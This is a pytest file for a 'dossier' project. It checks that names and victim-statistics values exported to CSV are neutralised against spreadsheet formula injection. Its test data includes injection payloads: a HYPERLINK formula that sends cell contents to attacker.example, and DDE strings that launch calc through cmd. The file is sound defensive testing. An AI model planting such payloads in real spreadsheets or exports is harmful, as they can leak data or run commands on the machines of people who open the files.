"""CSV meant for spreadsheets never carries a cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest

from dossier import spreadsheet
from dossier.registry.name_search import NameHits, names_csv
from dossier.victims.stats import VictimStats


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://attacker.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-"])
def test_a_cell_a_spreadsheet_would_evaluate_is_kept_as_text(text: str) -> None:
    assert spreadsheet.cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    "أحمد الخطيب", "Branch 251", "", "-12", "+3.5", "-0.25e3", "a=b", "item 4 @ p. 2",
    12, -4, 1.5, None])
def test_ordinary_text_and_numbers_are_unchanged(value: object) -> None:
    assert spreadsheet.cell(value) == value


def test_the_batch_search_csv_neutralises_a_hostile_name() -> None:
    rows = [NameHits(name='=HYPERLINK("http://x.example","y")', pages=0, documents=0),
            NameHits(name="Karim Nassar", pages=2, documents=1)]
    found = list(csv.DictReader(io.StringIO(names_csv(rows))))
    assert found[0]["name"] == '\'=HYPERLINK("http://x.example","y")'
    assert found[1]["name"] == "Karim Nassar" and found[1]["pages"] == "2"


def test_the_victims_csv_neutralises_a_value_from_an_imported_list() -> None:
    stats = VictimStats(victims=3, records=4, linkage={}, breakdowns={
        "governorate": [("@SUM(1+1)*cmd|' /C calc'!A0", 2), ("Homs", 1)]},
        lists=[], overlaps=[], patterns={})
    rows = list(csv.reader(io.StringIO(stats.to_csv())))
    assert rows[2] == ["governorate", "'@SUM(1+1)*cmd|' /C calc'!A0", "2"]
    assert rows[3] == ["governorate", "Homs", "1"]
